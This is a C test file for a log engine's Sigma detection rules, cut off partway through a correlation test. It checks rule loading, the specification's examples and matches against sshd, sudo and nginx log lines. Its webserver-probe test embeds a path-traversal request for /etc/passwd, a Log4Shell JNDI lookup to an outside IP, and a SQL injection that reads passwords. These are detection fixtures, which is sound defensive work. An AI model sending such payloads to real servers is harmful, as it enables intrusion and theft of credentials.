/*
 * The Sigma engine over real rules: the SigmaHQ Linux and web set
 * (rules/, rules-emerging-threats/, rules-threat-hunting/) must load
 * at 95% or better, every other rule with a specific reason; the
 * deprecated/ and unsupported/ folders load or are refused with a
 * reason; the specification's examples behave as the specification
 * says, and its filter and correlation examples match the events they
 * describe and no others; and loaded rules match real and crafted log
 * lines normalized by siemd's own parser.  The corpus is read at run time from
 * ../shared/corpus (or $SIEMD_CORPUS); without it the test skips.
 */

#include <sys/stat.h>

#include <dirent.h>
#include <time.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "siemd.h"
#include "normalize.h"
#include "sigma.h"
#include "sigma_corr.h"
#include "test.h"

#define SC_PATH_MAX	1024
#define SC_MAX_FILES	4096
#define SC_MAX_DEPTH	8
#define SC_TOP		12	/* skip reasons printed */
#define SC_NOW		1136073600000000LL

struct reason_count {
	char		 reason[SIGMA_REASON_LEN + 16];
	int		 n;
};

struct hits {
	const char	*want;		/* rule id that must be among them */
	int		 found;
	int		 n;
};

static const char	*corpus;
static uint64_t		 match_ns;	/* time in sigma_match() */
static uint64_t		 match_events;

static char	*slurp(const char *, size_t *);
static int	 walk(const char *, char **, int *, int);
static int	 cmpstr(const void *, const void *);
static int	 load_dir(struct sigma_set *, const char *);
static void	 tally(struct sigma_set *, const char *, int *, int *, int *);
static void	 test_main_set(void);
static void	 test_side_folders(void);
static void	 test_spec_schema(void);
static void	 test_spec_examples(void);
static void	 test_real_matches(struct sigma_set *);
static void	 on_hit(const struct sigma_rule *, void *);
static int	 match_line(struct sigma_set *, const char *, const char *,
		    enum tail_format, const char *);

static char *
slurp(const char *path, size_t *len)
{
	FILE	*fp;
	char	*buf;
	long	 n;

	if ((fp = fopen(path, "r")) == NULL)
		return (NULL);
	if (fseek(fp, 0, SEEK_END) == -1 || (n = ftell(fp)) < 0 ||
	    fseek(fp, 0, SEEK_SET) == -1 || (buf = malloc(n + 1)) == NULL) {
		fclose(fp);
		return (NULL);
	}
	*len = fread(buf, 1, n, fp);
	buf[*len] = '\0';
	fclose(fp);
	return (buf);
}

static int
cmpstr(const void *a, const void *b)
{
	return (strcmp(*(char *const *)a, *(char *const *)b));
}

/* Every *.yml under dir into files[]. */
static int
walk(const char *dir, char **files, int *n, int depth)
{
	DIR		*d;
	struct dirent	*de;
	struct stat	 st;
	char		 path[SC_PATH_MAX];
	size_t		 l;

	if (depth > SC_MAX_DEPTH || (d = opendir(dir)) == NULL)
		return (-1);
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (stat(path, &st) == -1)
			continue;
		if (S_ISDIR(st.st_mode)) {
			walk(path, files, n, depth + 1);
			continue;
		}
		l = strlen(de->d_name);
		if (l > 4 && strcmp(de->d_name + l - 4, ".yml") == 0 &&
		    *n < SC_MAX_FILES)
			files[(*n)++] = strdup(path);
	}
	closedir(d);
	return (0);
}

static int
load_dir(struct sigma_set *set, const char *rel)
{
	char	 dir[SC_PATH_MAX], *files[SC_MAX_FILES], *buf;
	size_t	 len;
	int	 n = 0, i;

	snprintf(dir, sizeof(dir), "%s/%s", corpus, rel);
	if (walk(dir, files, &n, 0) == -1)
		return (-1);
	qsort(files, n, sizeof(files[0]), cmpstr);
	for (i = 0; i < n; i++) {
		if ((buf = slurp(files[i], &len)) != NULL) {
			/* the name as it is in the corpus, no local path */
			sigma_set_add_file(set, files[i] + strlen(corpus) + 1,
			    buf, len);
			free(buf);
		}
		free(files[i]);
	}
	return (n);
}

static int
cmpcount(const void *a, const void *b)
{
	const struct reason_count	*x = a, *y = b;

	return (y->n - x->n);
}

/* Counts of a set, with its reasons, printed under label. */
static void
tally(struct sigma_set *set, const char *label, int *loaded, int *skipped,
    int *invalid)
{
	static struct reason_count	 rc[SC_MAX_FILES];
	struct sigma_rule		*r;
	size_t				 i;
	int				 j, nrc = 0;

	*loaded = *skipped = *invalid = 0;
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state == SIGMA_LOADED) {
			(*loaded)++;
			continue;
		}
		if (r->state == SIGMA_SKIPPED)
			(*skipped)++;
		else
			(*invalid)++;
		for (j = 0; j < nrc; j++)
			if (strcmp(rc[j].reason, r->reason) == 0)
				break;
		if (j == nrc && nrc < SC_MAX_FILES) {
			snprintf(rc[nrc].reason, sizeof(rc[nrc].reason),
			    "%s: %s", sigma_state_name(r->state), r->reason);
			rc[nrc].n = 0;
			for (j = 0; j < nrc; j++)
				if (strcmp(rc[j].reason, rc[nrc].reason) == 0)
					break;
			if (j == nrc)
				nrc++;
		}
		if (j < nrc)
			rc[j].n++;
	}
	qsort(rc, nrc, sizeof(rc[0]), cmpcount);
	printf("# %s: %zu rules: %d loaded, %d skipped, %d invalid\n", label,
	    sigma_set_count(set), *loaded, *skipped, *invalid);
	for (j = 0; j < nrc && j < SC_TOP; j++)
		printf("#   %3d  %s\n", rc[j].n, rc[j].reason);
}

static int
loaded_rules(struct sigma_set *set)
{
	struct sigma_rule	*r;
	size_t			 i;
	int			 n = 0;

	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++)
		n += r->state == SIGMA_LOADED;
	return (n);
}

static void
on_hit(const struct sigma_rule *r, void *arg)
{
	struct hits	*h = arg;

	h->n++;
	if (h->want != NULL && r->id != NULL && strcmp(r->id, h->want) == 0)
		h->found = 1;
}

/* Normalize one line as the parser process would; 1 if want hit. */
static int
match_line(struct sigma_set *set, const char *line, const char *app,
    enum tail_format fmt, const char *want)
{
	struct record_hint	 hint;
	struct siem_event	 ev;
	struct sigma_event	 se;
	struct hits		 h;
	struct timespec		 t0, t1;

	memset(&hint, 0, sizeof(hint));
	hint.format = fmt;
	hint.source_type = "file";
	hint.app = app;
	hint.source_offset = -1;
	hint.received_at = SC_NOW;
	hint.now = SC_NOW;
	event_init(&ev);
	normalize_record(&ev, line, strlen(line), &hint);
	memset(&h, 0, sizeof(h));
	h.want = want;
	sigma_event_from_event(&se, &ev);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	sigma_match(set, &se, on_hit, &h);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	match_ns += (t1.tv_sec - t0.tv_sec) * 1000000000ULL + t1.tv_nsec -
	    t0.tv_nsec;
	match_events++;
	sigma_event_done(&se);
	event_clear(&ev);
	return (want == NULL ? h.n : h.found);
}

static void
test_main_set(void)
{
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	size_t			 i;
	int			 loaded, skipped, invalid, n = 0, noreason = 0;
	char			 err[SIGMA_REASON_LEN];

	TEST_BEGIN("corpus-main-set");
	map = sigma_map_load(NULL, err, sizeof(err));
	set = sigma_set_new(map);
	n += load_dir(set, "sigma/rules");
	n += load_dir(set, "sigma/rules-emerging-threats");
	n += load_dir(set, "sigma/rules-threat-hunting");
	sigma_set_compile(set);
	tally(set, "main set", &loaded, &skipped, &invalid);
	CHECK_INT(n, 393);
	CHECK_INT(sigma_set_count(set), 393);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			noreason++;
		if (r->state == SIGMA_LOADED && (r->title == NULL ||
		    r->det == NULL))
			noreason++;
	}
	CHECK_INT(noreason, 0);
	if (loaded * 100 < 95 * (int)sigma_set_count(set))
		printf("FAIL corpus-main-set: %d of %zu loaded, under 95%%\n",
		    loaded, sigma_set_count(set));
	CHECK(loaded * 100 >= 95 * (int)sigma_set_count(set));
	TEST_END();

	test_real_matches(set);
	sigma_set_free(set);
	sigma_map_free(map);
}

static void
test_side_folders(void)
{
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	size_t			 i;
	int			 loaded, skipped, invalid, v1 = 0, bad = 0;
	char			 err[SIGMA_REASON_LEN];

	TEST_BEGIN("corpus-deprecated-unsupported");
	map = sigma_map_load(NULL, err, sizeof(err));
	set = sigma_set_new(map);
	load_dir(set, "sigma/deprecated");
	sigma_set_compile(set);
	tally(set, "deprecated", &loaded, &skipped, &invalid);
	CHECK_INT(sigma_set_count(set), 10);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++)
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			bad++;
	sigma_set_free(set);

	set = sigma_set_new(map);
	load_dir(set, "sigma/unsupported");
	sigma_set_compile(set);
	tally(set, "unsupported", &loaded, &skipped, &invalid);
	CHECK_INT(sigma_set_count(set), 8);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			bad++;
		if (strstr(r->reason, "v1 aggregation (count/near) is not "
		    "supported; use a correlation rule") != NULL)
			v1++;
	}
	/* the seven rules with "| count() by" or "near" */
	CHECK_INT(v1, 7);
	CHECK_INT(bad, 0);
	sigma_set_free(set);
	sigma_map_free(map);
	TEST_END();
}

/* sigma-spec/tests/schema: all valid; none may be rejected. */
static void
test_spec_schema(void)
{
	static const struct {
		const char		*file;
		enum sigma_corr_type	 type;
		size_t			 ngroup;
		int64_t			 timespan;
	} corr[] = {
		{ "event_count.yml", SIGMA_CORR_EVENT_COUNT, 1, 3600 },
		{ "event_count_ecs.yml", SIGMA_CORR_EVENT_COUNT, 1, 3600 },
		{ "value_count.yml", SIGMA_CORR_VALUE_COUNT, 2, 86400 },
		{ "temporal.yml", SIGMA_CORR_TEMPORAL, 2, 300 },
		{ "temporal_ordered.yml", SIGMA_CORR_TEMPORAL_ORDERED, 2, 300 },
		{ "value_sum.yml", SIGMA_CORR_VALUE_SUM, 2, 3600 },
		{ "value_avg.yml", SIGMA_CORR_VALUE_AVG, 2, 86400 },
		{ "value_percentile.yml", SIGMA_CORR_VALUE_PERCENTILE, 1,
		    86400 },
	};
	static const char	*plain[] = { "rules/rule_1.yml",
	    "rules/rule_ecs.yml", "filter/filter_1.yml",
	    "filter/filter_ecs.yml" };
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r, *c;
	char			 path[SC_PATH_MAX], err[SIGMA_REASON_LEN];
	char			 stub[512], *buf;
	size_t			 len, i, j;

	map = sigma_map_load(NULL, err, sizeof(err));
	TEST_BEGIN("spec-schema-rules-and-filters");
	for (i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		snprintf(path, sizeof(path), "%s/sigma-spec/tests/schema/%s",
		    corpus, plain[i]);
		set = sigma_set_new(map);
		CHECK((buf = slurp(path, &len)) != NULL);
		if (buf == NULL) {
			sigma_set_free(set);
			continue;
		}
		CHECK_INT(sigma_set_add_file(set, plain[i], buf, len), 1);
		free(buf);
		sigma_set_compile(set);
		r = sigma_set_rule(set, 0);
		/* valid Sigma; windows and ECS logsources are not ours */
		CHECK(r->state != SIGMA_INVALID);
		if (r->state == SIGMA_INVALID)
			printf("# %s: %s\n", plain[i], r->reason);
		CHECK(strstr(r->reason, "not mapped") != NULL);
		sigma_set_free(set);
	}
	TEST_END();

	TEST_BEGIN("spec-schema-correlations");
	for (i = 0; i < sizeof(corr) / sizeof(corr[0]); i++) {
		snprintf(path, sizeof(path),
		    "%s/sigma-spec/tests/schema/correlation/%s", corpus,
		    corr[i].file);
		if ((buf = slurp(path, &len)) == NULL) {
			CHECK(buf != NULL);
			continue;
		}
		set = sigma_set_new(map);
		CHECK_INT(sigma_set_add_file(set, corr[i].file, buf, len), 1);
		sigma_set_compile(set);
		c = sigma_set_rule(set, 0);
		CHECK(c->kind == SIGMA_CORRELATION);
		CHECK(c->corr != NULL);
		if (c->corr == NULL) {
			free(buf);
			sigma_set_free(set);
			continue;
		}
		CHECK_INT(c->corr->type, corr[i].type);
		CHECK_INT(c->corr->ngroup_by, corr[i].ngroup);
		CHECK_INT(c->corr->timespan, corr[i].timespan);
		/* alone, the rules it names are unknown */
		CHECK_INT(c->state, SIGMA_INVALID);
		CHECK(strstr(c->reason, "references unknown rule") != NULL);
		sigma_set_free(set);

		/* with them, it loads */
		set = sigma_set_new(map);
		sigma_set_add_file(set, corr[i].file, buf, len);
		c = sigma_set_rule(set, 0);
		for (j = 0; j < c->corr->nrules; j++) {
			snprintf(stub, sizeof(stub), "title: stub\n"
			    "%s: %s\nlogsource:\n    service: sshd\n"
			    "detection:\n    k:\n        - 'x'\n"
			    "    condition: k\n",
			    strchr(c->corr->rules[j], '-') != NULL ? "id" :
			    "name", c->corr->rules[j]);
			sigma_set_add_file(set, "stub", stub, strlen(stub));
		}
		sigma_set_compile(set);
		CHECK_INT(c->state, SIGMA_LOADED);
		if (c->state != SIGMA_LOADED)
			printf("# %s: %s\n", corr[i].file, c->reason);
		/* generate is false by default: they only feed it */
		for (j = 0; j < c->corr->nrules; j++)
			CHECK(c->corr->refs[j] != NULL &&
			    c->corr->refs[j]->standalone == 0);
		free(buf);
		sigma_set_free(set);
	}
	TEST_END();
	sigma_map_free(map);
}

/*
 * The specification's own examples (extracted_examples): complete
 * documents as they are, detection fragments inside a minimal rule
 * over a logsource that maps every field.  Example 13 is the one the
 * specification calls invalid (null in a list of values).
 */
static void
test_spec_examples(void)
{
	static const char	 testmap[] =
	    "logsources:\n"
	    "    - name: spec\n"
	    "      product: spec\n"
	    "      fields:\n"
	    "          '*': data.*\n";
	static const char	*invalid[] = { "sigma-rules_example13.yml",
	    NULL };
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	char			 dir[SC_PATH_MAX], path[SC_PATH_MAX];
	char			 err[SIGMA_REASON_LEN], *buf, *doc;
	char			*files[SC_MAX_FILES];
	size_t			 len, i;
	int			 n = 0, k, bad, frag = 0, nfiles = 0, isbad;

	TEST_BEGIN("spec-examples");
	CHECK((map = sigma_map_load_buf(testmap, strlen(testmap), err,
	    sizeof(err))) != NULL);
	snprintf(dir, sizeof(dir), "%s/sigma-spec/extracted_examples",
	    corpus);
	walk(dir, files, &nfiles, 0);
	qsort(files, nfiles, sizeof(files[0]), cmpstr);
	for (k = 0; k < nfiles; k++) {
		snprintf(path, sizeof(path), "%s", files[k]);
		free(files[k]);
		if ((buf = slurp(path, &len)) == NULL)
			continue;
		isbad = 0;
		for (i = 0; invalid[i] != NULL; i++)
			if (strstr(path, invalid[i]) != NULL)
				isbad = 1;
		set = sigma_set_new(map);
		if (strncmp(buf, "detection:", 10) == 0) {
			/* a fragment: give it a title and a logsource */
			if (asprintf(&doc, "title: example\nlogsource:\n"
			    "    product: spec\n%s%s", buf,
			    strstr(buf, "condition:") == NULL ?
			    "    condition: 1 of them\n" : "") == -1)
				exit(1);
			sigma_set_add_file(set, path, doc, strlen(doc));
			free(doc);
			sigma_set_compile(set);
			r = sigma_set_rule(set, 0);
			frag++;
			if (isbad) {
				CHECK_INT(r->state, SIGMA_INVALID);
				CHECK(strstr(r->reason, "null cannot be part "
				    "of a list") != NULL);
			} else {
				CHECK_INT(r->state, SIGMA_LOADED);
				if (r->state != SIGMA_LOADED)
					printf("# %s: %s\n", path, r->reason);
			}
		} else if (strncmp(buf, "title:", 6) == 0) {
			/* complete documents: valid, maybe not runnable */
			sigma_set_add_file(set, path, buf, len);
			sigma_set_compile(set);
			for (i = 0, bad = 0; (r = sigma_set_rule(set, i)) !=
			    NULL; i++) {
				if (r->state != SIGMA_INVALID)
					continue;
				/* correlations alone name absent rules */
				if (r->kind == SIGMA_CORRELATION &&
				    strstr(r->reason, "unknown rule") != NULL)
					continue;
				/* headers shown without their body */
				if (strstr(r->reason, "missing") != NULL)
					continue;
				bad++;
				printf("# %s: %s\n", path, r->reason);
			}
			CHECK_INT(bad, 0);
			n++;
		}
		free(buf);
		sigma_set_free(set);
	}
	CHECK(frag >= 8);
	CHECK(n >= 8);
	sigma_map_free(map);
	TEST_END();
}

static void
test_real_matches(struct sigma_set *set)
{
	char		 path[SC_PATH_MAX], *buf, *p, *nl;
	size_t		 len;
	int		 lines = 0, hits = 0;

	TEST_BEGIN("corpus-sshd-keywords-crafted");
	/* OpenSSH_2k.log's format, with messages the sshd rules name */
	CHECK(match_line(set, "Dec 10 06:55:46 LabSZ sshd[24200]: error: "
	    "buffer_get_ret: trying to get more bytes 1907 than in buffer "
	    "308 [preauth]", NULL, FORMAT_SYSLOG,
	    "4c9d903d-4939-4094-ade0-3cb748f4d7da"));
	CHECK(match_line(set, "Dec 10 07:02:47 LabSZ sshd[24206]: "
	    "Corrupted MAC on input. [preauth]", NULL, FORMAT_SYSLOG,
	    "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	CHECK(match_line(set, "Dec 10 07:02:47 LabSZ sshd[24206]: fatal: "
	    "Local: crc32 compensation attack: network attack detected",
	    NULL, FORMAT_SYSLOG, "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	/* the same text from another program is not sshd's */
	CHECK(!match_line(set, "Dec 10 07:02:47 LabSZ cron[24206]: "
	    "Corrupted MAC on input.", NULL, FORMAT_SYSLOG,
	    "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	TEST_END();

	TEST_BEGIN("corpus-openssh-2k-no-false-alarm");
	snprintf(path, sizeof(path), "%s/loghub/OpenSSH/OpenSSH_2k.log",
	    corpus);
	if ((buf = slurp(path, &len)) != NULL) {
		for (p = buf; *p != '\0'; p = nl + 1) {
			if ((nl = strchr(p, '\n')) == NULL)
				nl = p + strlen(p);
			*nl = '\0';
			lines++;
			/* none of these 2000 lines is one the rules name */
			hits += match_line(set, p, NULL, FORMAT_SYSLOG, NULL);
			if (nl == buf + len)
				break;
		}
		free(buf);
	}
	CHECK_INT(lines, 2000);
	CHECK_INT(hits, 0);
	printf("# OpenSSH_2k.log: %d lines, %d hits, %.2f us per event in "
	    "sigma_match with %d rules\n", lines, hits, match_events ?
	    match_ns / 1000.0 / match_events : 0.0, loaded_rules(set));
	TEST_END();

	TEST_BEGIN("corpus-nginx-access-real");
	snprintf(path, sizeof(path), "%s/elastic-beats/nginx_access_test.log",
	    corpus);
	lines = hits = 0;
	if ((buf = slurp(path, &len)) != NULL) {
		for (p = buf; *p != '\0'; p = nl + 1) {
			if ((nl = strchr(p, '\n')) == NULL)
				nl = p + strlen(p);
			*nl = '\0';
			if (*p != '\0') {
				lines++;
				hits += match_line(set, p, NULL,
				    FORMAT_ACCESS, NULL);
			}
			if (nl == buf + len)
				break;
		}
		free(buf);
	}
	CHECK(lines > 0);
	/* ordinary browsing: no web rule fires */
	CHECK_INT(hits, 0);
	printf("# nginx_access_test.log: %d lines, %d hits\n", lines, hits);
	TEST_END();

	TEST_BEGIN("corpus-sudo-cve-2019-14287");
	CHECK(match_line(set, "Feb 21 21:54:44 localhost sudo:    bob : "
	    "TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/usr/bin/id",
	    NULL, FORMAT_SYSLOG, "7fcc54cb-f27d-4684-84b7-436af096f858"));
	CHECK(!match_line(set, "Feb 21 21:54:44 localhost sudo:    bob : "
	    "TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
	    NULL, FORMAT_SYSLOG, "7fcc54cb-f27d-4684-84b7-436af096f858"));
	TEST_END();

	TEST_BEGIN("corpus-webserver-probes");
	/* path traversal in the query string */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /index.php?file=../../../../etc/passwd HTTP/1.1\" 200 "
	    "571 \"-\" \"curl/7.68.0\"", NULL, FORMAT_ACCESS, NULL) > 0);
	/* log4shell in the User-Agent header */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET / HTTP/1.1\" 200 571 \"-\" "
	    "\"${jndi:ldap://203.0.113.9:1389/a}\"", NULL, FORMAT_ACCESS,
	    NULL) > 0);
	/* SQL injection probe */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users"
	    " HTTP/1.1\" 200 571 \"-\" \"sqlmap/1.5\"", NULL, FORMAT_ACCESS,
	    NULL) > 0);
	/* an ordinary request matches nothing */
	CHECK_INT(match_line(set, "10.0.0.2 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /ocelot HTTP/1.1\" 200 571 \"-\" \"Mozilla/5.0 (Macintosh;"
	    " Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0\"",
	    NULL, FORMAT_ACCESS, NULL), 0);
	TEST_END();
}

/*
 * The specification's filter and correlation examples, run: each
 * example (completed where it is a fragment: a title, a correlation
 * type, stub rules for the ones it names) is given events it must
 * match and events it must not, through sigma_match() and, for the
 * correlations, the windowed engine.  Every field is read from the
 * event's data: the examples use Windows and ECS names no real
 * logsource of ours carries.
 */
#define SB_S		1000000LL
#define SB_T0		(1767225600LL * SB_S)
#define SB_MAXA		512
#define SB_MAXH		16

struct sb_alert {
	char		 title[128];
	char		 group[256];
	int		 update;
};

static struct sigma_map		*sb_map;
static struct sigma_set		*sb_set;
static struct corr_engine	*sb_ce;
static struct sigma_event	*sb_se;
static int64_t			 sb_ts, sb_id;
static struct sb_alert		 sb_got[SB_MAXA];
static size_t			 sb_ngot;
static const char		*sb_hit[SB_MAXH];	/* ids or titles */
static size_t			 sb_nhit;

static void
sb_on_alert(const struct corr_alert *a, void *arg)
{
	struct sb_alert	*g;

	if (sb_ngot == SB_MAXA)
		return;
	g = &sb_got[sb_ngot++];
	snprintf(g->title, sizeof(g->title), "%s", a->rule->title);
	snprintf(g->group, sizeof(g->group), "%s", a->group);
	g->update = a->update;
}

static void
sb_on_hit(const struct sigma_rule *r, void *arg)
{
	if (sb_nhit < SB_MAXH)
		sb_hit[sb_nhit++] = r->id != NULL ? r->id : r->title;
	if (r->kind == SIGMA_DETECTION && sb_ce != NULL)
		corr_hit(sb_ce, r, sb_se, sb_ts, sb_id, sb_ts);
}

static void
sb_done(void)
{
	corr_free(sb_ce);
	sb_ce = NULL;
	if (sb_set != NULL)
		sigma_set_free(sb_set);
	sb_set = NULL;
	sb_ngot = 0;
}

/* A set of documents (NULL-terminated), all of which must load. */
static int
sb_setup(const char *const *docs)
{
	struct corr_params	 p;
	struct sigma_rule	*r;
	char			 name[32];
	size_t			 i;
	int			 ok = 1;

	sb_done();
	sb_set = sigma_set_new(sb_map);
	for (i = 0; docs[i] != NULL; i++) {
		snprintf(name, sizeof(name), "doc%zu.yml", i);
		sigma_set_add_file(sb_set, name, docs[i], strlen(docs[i]));
	}
	sigma_set_compile(sb_set);
	corr_params_default(&p);
	sb_ce = corr_new(sb_set, sb_map, &p, sb_on_alert, NULL);
	for (i = 0; (r = sigma_set_rule(sb_set, i)) != NULL; i++)
		if (r->state != SIGMA_LOADED) {
			printf("# %s (%s): %s: %s\n", r->path, r->title != NULL ?
			    r->title : "?", sigma_state_name(r->state),
			    r->reason);
			ok = 0;
		}
	return (ok);
}

/*
 * One event at SB_T0 + sec seconds, its data the key, value pairs of
 * kv (NULL-terminated); returns how many rules it matched, and
 * whether want (an id or a title) was one of them in *found.
 */
static size_t
sb_feed(int64_t sec, const char *const *kv, const char *want, int *found)
{
	struct siem_event	 ev;
	struct sigma_event	 se;
	size_t			 i;

	event_init(&ev);
	ev.ts = ev.received_at = SB_T0 + sec * SB_S;
	ev.id = ++sb_id;
	event_set(&ev, EV_SOURCE_TYPE, "file", 4);
	for (i = 0; kv[i] != NULL && kv[i + 1] != NULL; i += 2)
		event_data_setstr(&ev, kv[i], kv[i + 1], strlen(kv[i + 1]));
	sigma_event_from_event(&se, &ev);
	sb_se = &se;
	sb_ts = ev.ts;
	sb_nhit = 0;
	sigma_match(sb_set, &se, sb_on_hit, NULL);
	if (sb_ce != NULL)
		corr_flush(sb_ce);
	sigma_event_done(&se);
	event_clear(&ev);
	if (found != NULL) {
		*found = 0;
		for (i = 0; i < sb_nhit; i++)
			if (want != NULL && strcmp(sb_hit[i], want) == 0)
				*found = 1;
	}
	return (sb_nhit);
}

/* New alerts of that title, for group when not NULL. */
static size_t
sb_alerts(const char *title, const char *group)
{
	size_t	 i, n = 0;

	for (i = 0; i < sb_ngot; i++)
		if (!sb_got[i].update && strcmp(sb_got[i].title, title) == 0 &&
		    (group == NULL || strcmp(sb_got[i].group, group) == 0))
			n++;
	return (n);
}

/* An example's text; NULL (and a note) when it cannot be read. */
static char *
sb_example(const char *name)
{
	char	 path[SC_PATH_MAX], *buf;
	size_t	 len;

	snprintf(path, sizeof(path), "%s/sigma-spec/%s", corpus, name);
	if ((buf = slurp(path, &len)) == NULL)
		printf("# cannot read %s\n", path);
	return (buf);
}

/* text with every line indented by n spaces (the caller frees it) */
static char *
sb_indent(const char *text, int n)
{
	char		*out, *o;
	const char	*p;
	size_t		 lines = 1;

	for (p = text; *p != '\0'; p++)
		lines += *p == '\n';
	if ((out = malloc(strlen(text) + lines * n + 1)) == NULL)
		exit(1);
	for (p = text, o = out; *p != '\0';) {
		if (p == text || p[-1] == '\n') {
			memset(o, ' ', n);
			o += n;
		}
		*o++ = *p++;
	}
	*o = '\0';
	return (out);
}

/*
 * A rule made of fmt with the example's fragment, indented by four
 * spaces, for its one %s; NULL (and said) when the example is missing.
 */
static char *
sb_around(const char *example, const char *fmt)
{
	char	*frag, *ind, *text;

	if ((frag = sb_example(example)) == NULL)
		return (NULL);
	ind = sb_indent(frag, 4);
	if (asprintf(&text, fmt, ind) == -1)
		exit(1);
	free(ind);
	free(frag);
	return (text);
}

/* A detection rule named by id (uuid) or name, one selection line. */
static char *
sb_stub(const char *ref, const char *product, const char *extra,
    const char *selection)
{
	char	*doc;

	if (asprintf(&doc, "title: stub %s\n%s: %s\nlogsource:\n"
	    "    product: %s\n%sdetection:\n    selection:\n%s"
	    "    condition: selection\n", ref,
	    strchr(ref, '-') != NULL && strlen(ref) == 36 ? "id" : "name",
	    ref, product, extra, selection) == -1)
		exit(1);
	return (doc);
}

static void
sb_free(char **v, size_t n)
{
	size_t	 i;

	for (i = 0; i < n; i++)
		free(v[i]);
}

static void
sb_filters(void)
{
	static const char	*files[] = {
	    "extracted_examples/sigma-filters_example02.yml",
	    "tests/schema/filter/filter_1.yml", NULL };
	const char		*rar = "6f3e2987-db24-4c78-a860-b4f4095a7095";
	const char		*jump = "df0841c0-9846-4e9f-ad8a-7df91571771b";
	const char		*docs[4];
	char			*stubs[2], *f;
	size_t			 i;
	int			 found;

	printf("# sigma-filters_example01.yml: a title and an id only, "
	    "nothing to run\n");
	stubs[0] = sb_stub(rar, "windows", "    category: process_creation\n",
	    "        Image|endswith: '\\rar.exe'\n");
	stubs[1] = sb_stub(jump, "windows", "    category: process_creation\n",
	    "        ComputerName|startswith: 'jump'\n");
	for (i = 0; files[i] != NULL; i++) {
		TEST_BEGIN(i == 0 ? "spec-filter-example-behaviour" :
		    "spec-schema-filter-behaviour");
		if ((f = sb_example(files[i])) == NULL) {
			CHECK(f != NULL);
			TEST_END();
			continue;
		}
		docs[0] = stubs[0];
		docs[1] = stubs[1];
		docs[2] = f;
		docs[3] = NULL;
		CHECK(sb_setup(docs));
		CHECK(sigma_set_rule(sb_set, 2)->kind == SIGMA_FILTER);
		/* rar.exe run by a user: the rule matches */
		sb_feed(0, (const char *[]){ "Image", "C:\\Program Files\\"
		    "WinRAR\\rar.exe", "User", "alice", NULL }, rar, &found);
		CHECK(found);
		/* by an administrator: the filter takes it out */
		CHECK_INT(sb_feed(1, (const char *[]){ "Image", "C:\\Program "
		    "Files\\WinRAR\\rar.exe", "User", "adm_alice", NULL },
		    NULL, NULL), 0);
		/* adm_ alone matches nothing: a filter raises no hit */
		CHECK_INT(sb_feed(2, (const char *[]){ "Image", "C:\\Windows\\"
		    "notepad.exe", "User", "adm_bob", NULL }, NULL, NULL), 0);
		/* the second rule it names */
		sb_feed(3, (const char *[]){ "ComputerName", "jump01", "User",
		    "bob", NULL }, jump, &found);
		CHECK(found);
		CHECK_INT(sb_feed(4, (const char *[]){ "ComputerName", "jump01",
		    "User", "adm_bob", NULL }, NULL, NULL), 0);
		/* startswith, not contains */
		sb_feed(5, (const char *[]){ "ComputerName", "jump02", "User",
		    "bob_adm_", NULL }, jump, &found);
		CHECK(found);
		free(f);
		sb_done();
		TEST_END();
	}
	sb_free(stubs, 2);
}

/* Examples 03-05: group-by and conditions inside an event_count. */
static void
sb_fragments(void)
{
	const char	*docs[3];
	char		*corr, *base;
	char		 n[16];
	int		 i;

	base = sb_stub("failed_logon", "spec", "",
	    "        EventID: 4625\n");
	docs[0] = base;
	docs[2] = NULL;

	TEST_BEGIN("spec-corr-example03-group-by");
	if ((corr = sb_around("extracted_examples/"
	    "sigma-correlation-rules_example03.yml",
	    "title: ex03\ncorrelation:\n"
		    "    type: event_count\n    rules:\n"
		    "        - failed_logon\n%s    timespan: 1h\n"
		    "    condition:\n        gte: 3\n")) != NULL) {
		docs[1] = corr;
		CHECK(sb_setup(docs));
		/* one user of one domain three times: a group */
		for (i = 0; i < 3; i++)
			sb_feed(i, (const char *[]){ "EventID", "4625",
			    "TargetUserName", "bob", "TargetDomainName",
			    "CORP", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex03", "TargetUserName=bob,"
		    "TargetDomainName=CORP"), 1);
		if (sb_ngot > 0)
			printf("# example03 group: %s\n", sb_got[0].group);
		/* the same name in two domains is two groups */
		sb_feed(10, (const char *[]){ "EventID", "4625",
		    "TargetUserName", "eve", "TargetDomainName", "CORP",
		    NULL }, NULL, NULL);
		sb_feed(11, (const char *[]){ "EventID", "4625",
		    "TargetUserName", "eve", "TargetDomainName", "LAB",
		    NULL }, NULL, NULL);
		sb_feed(12, (const char *[]){ "EventID", "4625",
		    "TargetUserName", "eve", "TargetDomainName", "CORP",
